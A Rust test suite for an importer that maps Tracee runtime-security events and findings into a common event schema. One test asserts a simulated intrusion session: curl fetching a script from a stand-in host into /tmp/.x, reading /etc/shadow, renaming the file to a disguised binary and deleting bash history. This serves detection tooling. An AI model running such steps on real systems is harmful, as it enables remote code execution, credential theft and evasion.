//! The importer over the real fixtures (`testdata/fixtures/tracee/`: events from Tracee's
//! docs), the hand-written samples (`testdata/import/tracee/`: what the docs lack: process
//! lifecycle, LSM file and socket hooks, findings, a v1beta1 stream), detection, and
//! mangled copies of all of them.

use std::path::PathBuf;

use serde_json::Value;

use super::super::procs::begun_key;
use super::super::testing::*;
use super::super::{Counts, Importer, NO_HOST, detect};
use super::*;
use crate::schema::{
    Detail, Event, EventKind, FileDetail, FindingDetail, NetDetail, Protocol, Severity,
    source_process_key,
};

const FIXTURES: &str = "tracee";

fn sample(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("testdata/import/tracee")
        .join(name)
}

fn import_sample(name: &str, host: Option<&str>) -> (Vec<Event>, Counts) {
    let bytes = std::fs::read(sample(name)).unwrap();
    let (rows, counts) = import_bytes(&Tracee, &bytes, host);
    (events(&rows).into_iter().cloned().collect(), counts)
}

fn fixture_events(name: &str) -> (Vec<Event>, Counts) {
    let (rows, counts) = import_fixture(&Tracee, &format!("{FIXTURES}/{name}"));
    (events(&rows).into_iter().cloned().collect(), counts)
}

fn extra(e: &Event) -> Value {
    serde_json::from_str(e.extra.as_deref().expect("extra")).unwrap()
}

fn file(e: &Event) -> &FileDetail {
    match &e.detail {
        Detail::File(f) => f,
        d => panic!("not a file event: {d:?}"),
    }
}

fn net(e: &Event) -> &NetDetail {
    match &e.detail {
        Detail::Network(n) => n,
        d => panic!("not a network event: {d:?}"),
    }
}

fn finding(e: &Event) -> &FindingDetail {
    match &e.detail {
        Detail::Finding(f) => f,
        d => panic!("not a finding: {d:?}"),
    }
}

fn ends(e: &Event) -> (String, u16, String, u16) {
    let n = net(e);
    let ip = |a: Option<std::net::IpAddr>| a.map(|a| a.to_string()).unwrap_or_default();
    (
        ip(n.src_ip),
        n.src_port.unwrap_or(0),
        ip(n.dst_ip),
        n.dst_port.unwrap_or(0),
    )
}

fn unmapped(c: &Counts, what: &str) -> u64 {
    c.unmapped.get(what).copied().unwrap_or(0)
}

fn key(host: &str, id: &str) -> Option<String> {
    Some(source_process_key(host, SOURCE, id))
}

#[test]
fn forensics_opens_are_writes_and_other_syscalls_are_counted() {
    let (evs, c) = fixture_events("tracee-HEAD-forensics.extracted.jsonl");
    assert_eq!((c.records, c.skipped_total()), (6, 0), "{c:?}");
    assert_eq!(evs.len(), 2);
    for what in ["vfs_read", "clone", "close"] {
        assert!(unmapped(&c, what) > 0, "{what}: {:?}", c.unmapped);
    }
    assert_eq!(unmapped(&c, "vfs_read"), 2);
    let (lsm, sys) = (&evs[0], &evs[1]);
    assert_eq!(
        (lsm.kind, sys.kind),
        (EventKind::FileOpenWrite, EventKind::FileOpenWrite)
    );
    assert_eq!(lsm.time, 1_657_321_167_356_748_797);
    assert_eq!(
        (lsm.host_id.as_str(), lsm.source.as_str()),
        ("fujitsu", "tracee")
    );
    assert_eq!(file(lsm).path, "/tmp/testing.txt");
    // O_WRONLY|O_CREAT|O_TRUNC|O_LARGEFILE.
    assert_eq!(file(lsm).flags, Some(0o101101));
    assert_eq!((file(sys).flags, file(sys).mode), (Some(0o1101), Some(438)));
    let p = &lsm.process;
    assert_eq!(
        (p.pid, p.tid, p.ppid, p.uid),
        (Some(2578238), Some(2578238), Some(2578237), Some(1000))
    );
    assert_eq!(p.comm.as_deref(), Some("bash"));
    // The thread start time counts from boot: a key, not a start time.
    assert_eq!(p.start_time, None);
    let start = 620_311_624_458_929;
    assert_eq!(p.key, Some(begun_key("fujitsu", SOURCE, 2_578_238, start)));
    // The parent (bash's parent) has no event: one incarnation from when it was asked for.
    assert_eq!(
        p.parent_key,
        key("fujitsu", &format!("2578237@seen:{start}"))
    );
    assert_eq!(sys.process.key, p.key);
    let x = extra(lsm);
    assert_eq!(x["syscall"], "openat");
    assert_eq!(x["eventId"], "722");
    assert_eq!(x["args"]["syscall_pathname"], "/tmp/testing.txt");
    assert_eq!(x["args"]["inode"], 1966101);
    assert_eq!(extra(sys)["returnValue"], 3);
    assert_eq!(lsm.container_id, None);
}

#[test]
fn k8s_execve_is_an_exec_by_host_pid_with_the_namespace_pid_kept() {
    let (evs, c) = fixture_events("tracee-HEAD-k8s-policies.extracted.jsonl");
    assert_eq!(
        (c.records, c.skipped_total(), evs.len()),
        (1, 0, 1),
        "{c:?}"
    );
    let e = &evs[0];
    assert_eq!(e.kind, EventKind::ProcessExec);
    assert_eq!(e.time, 1_684_688_250_477_166_817);
    assert_eq!(e.host_id, "minikube");
    let p = &e.process;
    assert_eq!(
        (p.pid, p.ppid, p.uid),
        (Some(3242201), Some(3205483), Some(0))
    );
    assert_eq!(p.exe.as_deref(), Some("/opt/cni/bin/bridge"));
    assert_eq!(p.argv, ["/opt/cni/bin/bridge"]);
    // The comm is the new image's, not cri-dockerd's (execve's context is the caller's).
    assert_eq!(p.comm.as_deref(), Some("bridge"));
    assert_eq!(p.start_time, Some(1_684_688_250_477_064_221));
    assert_eq!(
        p.key,
        Some(begun_key(
            "minikube",
            SOURCE,
            3242201,
            1_684_688_250_477_064_221
        ))
    );
    let x = extra(e);
    assert_eq!(
        (x["processId"].clone(), x["parentProcessId"].clone()),
        (35694.into(), 1033.into())
    );
    assert_eq!(x["processName"], "cri-dockerd");
    assert_eq!(x["matchedPolicies"][0], "execve_event");
    assert_eq!(x["cgroupId"], 1386180);
    // The empty `container{}`: no container.
    assert_eq!(e.container_id, None);
}

#[test]
fn head_packets_give_one_event_per_flow_keyed_by_entity_ids() {
    let (evs, c) = fixture_events("tracee-HEAD-network-events.extracted.jsonl");
    assert_eq!((c.records, c.skipped_total()), (8, 0), "{c:?}");
    assert_eq!(unmapped(&c, "net_packet_tcp (flow seen)"), 3);
    assert_eq!(evs.len(), 5);
    let vlc = &evs[0];
    assert_eq!(vlc.kind, EventKind::NetConnect);
    assert_eq!(
        ends(vlc),
        ("192.168.200.50".into(), 40020, "70.42.73.30".into(), 80)
    );
    assert_eq!(net(vlc).protocol, Protocol::Tcp);
    let p = &vlc.process;
    // A thread of vlc: the process' own id (processEntityId), not the thread's.
    assert_eq!(
        (p.pid, p.tid, p.ppid),
        (Some(1014858), Some(1014989), Some(1729))
    );
    assert_eq!(p.key, key("rugged", "1014858#3999221038"));
    assert_eq!(p.parent_key, key("rugged", "1729#3069802613"));
    assert_eq!((p.start_time, p.exe.as_deref()), (None, None));
    assert_eq!(extra(vlc)["threadEntityId"], 3489249124u64);
    assert_eq!(extra(vlc)["args"]["proto_tcp"]["seq"], 4173220235u64);
    let dns: Vec<_> = evs[1..].iter().collect();
    assert!(dns.iter().all(|e| net(e).protocol == Protocol::Udp));
    let ports: Vec<u16> = dns.iter().map(|e| ends(e).3).collect();
    assert_eq!(ports, [36031, 52190, 56275, 33877]);
    assert_eq!(ends(dns[0]).0, "8.8.8.8");
    assert_eq!(dns[0].process.comm.as_deref(), Some("systemd-resolve"));
    assert_eq!(dns[0].process.key, key("rugged", "472#131662446"));
    assert_eq!(dns[0].process.start_time, Some(1_695_658_999_333_342_370));
}

#[test]
fn v011_packets_ports_from_the_tcp_header_or_the_metadata() {
    let (evs, c) = fixture_events("tracee-v0.11.0-network-events.extracted.jsonl");
    assert_eq!((c.records, c.skipped_total()), (47, 0), "{c:?}");
    for (what, n) in [
        ("net_packet_ipv4 without ports", 7),
        ("net_packet_ipv6 without ports", 7),
        ("net_packet_icmp without ports", 2),
        ("net_packet_icmpv6 without ports", 2),
    ] {
        assert_eq!(unmapped(&c, what), n, "{what}: {:?}", c.unmapped);
    }
    let unmapped_total: u64 = c.unmapped.values().sum();
    assert_eq!(evs.len() as u64 + unmapped_total, 47);
    // nc's TCP flow: the ports are in `proto_tcp`, the first packet is the SYN.
    let nc = evs.iter().find(|e| e.process.pid == Some(3156273)).unwrap();
    assert_eq!(
        ends(nc),
        ("10.157.254.1".into(), 51594, "10.157.254.193".into(), 8090)
    );
    assert_eq!(extra(nc)["args"]["proto_tcp"]["SYN"], 1);
    let udp = evs.iter().find(|e| e.process.pid == Some(3160590)).unwrap();
    assert_eq!((net(udp).protocol, ends(udp).3), (Protocol::Udp, 8090));
    // dns_request: the endpoints are in `metadata`, UDP by its protocol number.
    let req = evs.iter().find(|e| e.process.pid == Some(3200575)).unwrap();
    assert_eq!(
        ends(req),
        ("127.0.0.1".into(), 46259, "127.0.0.53".into(), 53)
    );
    assert_eq!(net(req).protocol, Protocol::Udp);
    assert_eq!(
        extra(req)["args"]["dns_questions"][0]["query"],
        "www.uol.com.br"
    );
    let resolved = evs.iter().filter(|e| e.process.pid == Some(1016)).count();
    assert_eq!(resolved, 10);
    assert!(evs.iter().all(|e| e.kind == EventKind::NetConnect));
    assert!(evs.iter().all(|e| e.process.start_time.is_none()));
}

#[test]
fn v1beta1_illustration_needs_a_host_and_keys_by_unique_id() {
    let rel = "tracee-HEAD-v1beta1-event-structure.extracted.json";
    let (evs, c) = fixture_events(rel);
    assert_eq!((c.records, c.skipped[NO_HOST]), (1, 1));
    assert!(evs.is_empty());
    let bytes = std::fs::read(fixture(&format!("{FIXTURES}/{rel}"))).unwrap();
    let (rows, c) = import_bytes(&Tracee, &bytes, Some("node-1"));
    assert_eq!(c.skipped_total(), 0, "{c:?}");
    let evs = events(&rows);
    assert_eq!(evs.len(), 1);
    let e = evs[0];
    assert_eq!(e.kind, EventKind::ProcessExec);
    assert_eq!(e.time, 1_732_454_400_123_456_789);
    let p = &e.process;
    assert_eq!(
        (p.pid, p.tid, p.ppid, p.uid),
        (Some(12345), Some(12345), Some(1234), Some(1000))
    );
    assert_eq!(p.exe.as_deref(), Some("/usr/bin/ls"));
    assert_eq!(p.argv, ["ls", "-la", "/tmp"]);
    assert_eq!(p.comm.as_deref(), Some("ls"));
    assert_eq!(p.start_time, Some(1_732_454_350_000_000_000));
    // The leader thread's unique_id is the process'; the first ancestor is the parent.
    assert_eq!(p.key, key("node-1", "12345#1234567890"));
    assert_eq!(p.parent_key, key("node-1", "1234#9876543210"));
    let x = extra(e);
    assert_eq!(x["policies"]["matched"][0], "default-policy");
    assert_eq!(
        (x["syscall"].clone(), x["ns_pid"].clone()),
        ("execve".into(), 12345.into())
    );
}

#[test]
fn a_session_links_fork_exec_connect_files_and_exit_in_a_pod() {
    let (evs, c) = import_sample("flat-session.jsonl", None);
    assert_eq!((c.records, c.skipped_total()), (16, 0), "{c:?}");
    assert_eq!(unmapped(&c, "execve failed"), 1);
    assert_eq!(unmapped(&c, "security_socket_connect AF_UNIX"), 1);
    assert_eq!(unmapped(&c, "cap_capable"), 1);
    assert_eq!(unmapped(&c, "sched_process_exit (thread)"), 1);
    assert_eq!(evs.len(), 12);
    let host = "web-7";
    let t = 1_718_000_000_000_000_000i64;
    let bash = begun_key(host, SOURCE, 4100, t - 3_600_000_000_000);
    let curl = begun_key(host, SOURCE, 4242, t + 1_000_000);
    let kind = |k| evs.iter().filter(|e| e.kind == k).collect::<Vec<_>>();

    let fork = kind(EventKind::ProcessFork)[0];
    let fp = &fork.process;
    assert_eq!(
        (fp.pid, fp.tid, fp.ppid),
        (Some(4242), Some(4242), Some(4100))
    );
    assert_eq!(
        (fp.key.as_deref(), fp.parent_key.as_deref()),
        (Some(&*curl), Some(&*bash))
    );
    assert_eq!(fp.start_time, Some(t + 1_000_000));
    let cid = "5d2c9f1e0a7b4c3d8e9f00112233445566778899aabbccddeeff001122334455";
    assert_eq!(fork.container_id.as_deref(), Some(cid));

    let exec = kind(EventKind::ProcessExec)[0];
    let xp = &exec.process;
    assert_eq!(
        (xp.pid, xp.ppid, xp.uid),
        (Some(4242), Some(4100), Some(1000))
    );
    assert_eq!(
        (xp.key.as_deref(), xp.parent_key.as_deref()),
        (Some(&*curl), Some(&*bash))
    );
    assert_eq!(
        xp.argv,
        ["curl", "-s", "-o", "/tmp/.x", "http://203.0.113.10/x.sh"]
    );
    let sha = "8f434346648f6b96df89dda901c5176b10a6d83961dd3c1ac88b59b2dc327aa4";
    match &exec.detail {
        Detail::Process(d) => assert_eq!(d.exe_sha256.as_deref(), Some(sha)),
        d => panic!("{d:?}"),
    }
    assert_eq!(
        extra(exec)["args"]["interpreter_pathname"],
        "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
    );
    assert_eq!(extra(exec)["processId"], 31);

    let conn = &kind(EventKind::NetConnect)[0];
    assert_eq!((ends(conn).2.as_str(), ends(conn).3), ("203.0.113.10", 80));
    assert_eq!(conn.process.key.as_deref(), Some(&*curl));

    let writes = kind(EventKind::FileOpenWrite);
    assert_eq!(writes.len(), 2);
    assert!(writes.iter().all(|w| file(w).path == "/tmp/.x"));
    assert_eq!(extra(writes[1])["args"]["bytes"], "IyEvYmluL3NoCmN1cmwg");

    // A thread of bash (not its leader): the process is the incarnation its fork named.
    let read = kind(EventKind::FileOpenRead)[0];
    assert_eq!(file(read).path, "/etc/shadow");
    assert_eq!(
        (read.process.pid, read.process.tid),
        (Some(4100), Some(4105))
    );
    assert_eq!(read.process.key.as_deref(), Some(&*bash));

    let mv = kind(EventKind::FileRename)[0];
    assert_eq!(
        (file(mv).path.as_str(), file(mv).target_path.as_deref()),
        ("/tmp/.x", Some("/usr/local/bin/kworkerd"))
    );
    assert_eq!(
        file(kind(EventKind::FileUnlink)[0]).path,
        "/root/.bash_history"
    );

    let exits = kind(EventKind::ProcessExit);
    let code = |e: &Event| match &e.detail {
        Detail::Process(d) => d.exit_code,
        d => panic!("{d:?}"),
    };
    assert_eq!(exits.len(), 2);
    assert_eq!(
        (exits[0].process.key.as_deref(), code(exits[0])),
        (Some(&*curl), Some(0))
    );
    // sshd's exit_code alone is a wait status: killed by signal 9.
    assert_eq!(
        (exits[1].process.pid, code(exits[1])),
        (Some(910), Some(137))
    );

    let listen = kind(EventKind::NetListen)[0];
    assert_eq!((ends(listen).2.as_str(), ends(listen).3), ("::", 2222));
    assert_eq!(listen.container_id, None);

    let f = kind(EventKind::Finding)[0];
    let d = finding(f);
    assert_eq!(
        (d.rule.as_str(), d.rule_id.as_deref()),
        ("Anti-Debugging detected", Some("TRC-102"))
    );
    assert_eq!(d.severity, Some(Severity::Low));
    assert_eq!(d.tags, ["defense-evasion", "Debugger Evasion", "T1622"]);
    assert!(
        d.message
            .as_deref()
            .unwrap()
            .starts_with("A process used anti-debugging")
    );
    assert_eq!(f.process.key.as_deref(), Some(&*bash));
    let x = extra(f);
    assert_eq!(x["args"]["triggeredBy"]["name"], "ptrace");
    assert_eq!(
        x["metadata"]["id"],
        "attack-pattern--e4dc8c01-417f-458d-9ee0-bb0617c1b391"
    );
    assert_eq!(x["eventName"], Value::Null);

    let rows = import_bytes(
        &Tracee,
        &std::fs::read(sample("flat-session.jsonl")).unwrap(),
        None,
    )
    .0;
    let ctrs = containers(&rows);
    assert_eq!(ctrs.len(), 1, "one record per container");
    let c = ctrs[0];
    assert_eq!(
        (c.container_id.as_str(), c.name.as_deref()),
        (cid, Some("shop-api"))
    );
    assert_eq!(
        c.image.as_deref(),
        Some("registry.example.com/shop/api:1.4.2")
    );
    assert_eq!(
        (c.pod.as_deref(), c.namespace.as_deref()),
        (Some("shop-api-6d9f7c5b8-x2k4q"), Some("prod"))
    );
    assert_eq!(
        extra(exec)["kubernetes.podUID"],
        "9a8b7c6d-1111-4222-8333-944455556666"
    );
}

#[test]
fn tracee_rules_and_v1beta1_threats_are_findings() {
    let (evs, c) = import_sample("tracee-rules.jsonl", None);
    assert_eq!((c.records, evs.len()), (1, 1), "{c:?}");
    let f = &evs[0];
    let d = finding(f);
    assert_eq!(
        (d.rule.as_str(), d.rule_id.as_deref()),
        ("Anti-Debugging", Some("TRC-2"))
    );
    assert_eq!(d.severity, Some(Severity::High));
    assert_eq!(
        d.tags,
        [
            "linux",
            "container",
            "Defense Evasion: Execution Guardrails"
        ]
    );
    assert_eq!(
        (f.host_id.as_str(), f.process.pid),
        ("build-3", Some(20555))
    );
    assert_eq!(extra(f)["args"]["request"], "PTRACE_TRACEME");
    assert_eq!(extra(f)["eventName"], Value::Null);

    let (evs, c) = import_sample("v1beta1.json", None);
    assert_eq!(c.skipped[NO_HOST], 2);
    assert!(evs.is_empty());
    let (evs, c) = import_sample("v1beta1.json", Some("k8s-node-2"));
    assert_eq!(
        (c.records, c.skipped_total(), evs.len()),
        (2, 0, 2),
        "{c:?}"
    );
    let (exec, f) = (&evs[0], &evs[1]);
    assert_eq!(exec.kind, EventKind::ProcessExec);
    let sh = key("k8s-node-2", "31300#3771024431");
    assert_eq!(exec.process.parent_key, sh);
    assert_eq!(exec.process.key, key("k8s-node-2", "31337#2213497642"));
    assert_eq!(exec.process.argv, ["ls", "-la", "/tmp"]);
    assert_eq!(exec.time, 1_732_454_400_123_456_789);
    let cid = "ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12cd34ef56ab12";
    assert_eq!(exec.container_id.as_deref(), Some(cid));
    assert_eq!(
        f.container_id.as_deref(),
        Some(cid),
        "one id, however written"
    );
    assert_eq!(extra(exec)["args"]["inode"], "1048601");
    assert_eq!(extra(exec)["ancestors"][0]["host_pid"], 31290);
    let d = finding(f);
    assert_eq!(
        (d.rule.as_str(), d.rule_id.as_deref()),
        ("Anti-Debugging detected", Some("TRC-102"))
    );
    assert_eq!(d.severity, Some(Severity::Low));
    assert_eq!(
        d.tags,
        [
            "defense-evasion",
            "Defense Evasion",
            "T1622",
            "Debugger Evasion"
        ]
    );
    assert_eq!(f.process.key, sh);
    assert_eq!(extra(f)["detected_from"]["name"], "ptrace");
    let bytes = std::fs::read(sample("v1beta1.json")).unwrap();
    let rows = import_bytes(&Tracee, &bytes, Some("k8s-node-2")).0;
    let c = containers(&rows)[0];
    assert_eq!(
        (c.runtime.as_deref(), c.pod.as_deref()),
        (Some("containerd"), Some("debug-pod"))
    );
    assert_eq!(c.image_id.as_deref(), Some("sha256:11aa22bb"));
}

#[test]
fn importing_the_same_bytes_twice_adds_nothing() {
    let bytes = std::fs::read(sample("flat-session.jsonl")).unwrap();
    let twice = [bytes.clone(), bytes].concat();
    let (rows, c) = import_bytes(&Tracee, &twice, None);
    assert_eq!((c.records, c.duplicates), (32, 16));
    assert_eq!(events(&rows).len(), 12);
}

/// Every fixture and sample.
fn inputs() -> Vec<PathBuf> {
    let mut files: Vec<PathBuf> = std::fs::read_dir(fixture(FIXTURES))
        .unwrap()
        .chain(std::fs::read_dir(sample("")).unwrap())
        .map(|e| e.unwrap().path())
        .filter(|p| {
            let n = p.file_name().unwrap().to_string_lossy();
            n.ends_with(".json") || n.ends_with(".jsonl")
        })
        .collect();
    files.sort();
    files
}

/// Skip reasons of records (the rest are stretches that never became records).
const RECORD_SKIPS: &[&str] = &["not a Tracee event", NO_HOST, "no time", "incomplete event"];

#[test]
fn mangled_copies_never_panic_and_every_record_is_accounted_for() {
    let files = inputs();
    assert_eq!(files.len(), 8, "{files:?}");
    let (mut copies, mut records, mut skipped, mut rows) = (0, 0, 0, 0);
    for f in &files {
        let bytes = std::fs::read(f).unwrap();
        for m in mangled(&bytes) {
            for host in [None, Some("h")] {
                let (out, c) = import_bytes(&Tracee, &m, host);
                let evs = events(&out).len() as u64;
                // Every record accounted for exactly: JSON that does not parse is never one.
                assert_accounted(&c, evs, RECORD_SKIPS, &[], &f.display().to_string());
                copies += 1;
                records += c.records;
                skipped += c.skipped_total();
                rows += evs;
            }
        }
    }
    eprintln!("{copies} mangled copies: {records} records, {rows} events, {skipped} skipped");
    assert!(rows > 0 && skipped > 0);
}

#[test]
fn sniff_takes_tracee_and_nothing_else() {
    for f in inputs() {
        let bytes = std::fs::read(&f).unwrap();
        assert!(Tracee.sniff(&bytes), "{}", f.display());
        assert_eq!(detect(&bytes).unwrap().name(), "tracee", "{}", f.display());
        for other in super::super::importers() {
            if other.name() != "tracee" {
                assert!(
                    !other.sniff(&bytes),
                    "{} claims {}",
                    other.name(),
                    f.display()
                );
            }
        }
    }
    let mut others = 0;
    for e in walkdir::WalkDir::new(fixture("")) {
        let e = e.unwrap();
        let tracee = e.path().components().any(|c| c.as_os_str() == FIXTURES);
        if e.file_type().is_file() && !tracee {
            let bytes = std::fs::read(e.path()).unwrap();
            assert!(!Tracee.sniff(&bytes), "{}", e.path().display());
            others += 1;
        }
    }
    assert!(others > 50, "{others}");
    assert!(!Tracee.sniff(b"{\"eventName\":\"x\"}"));
    assert!(!Tracee.sniff(b""));
}
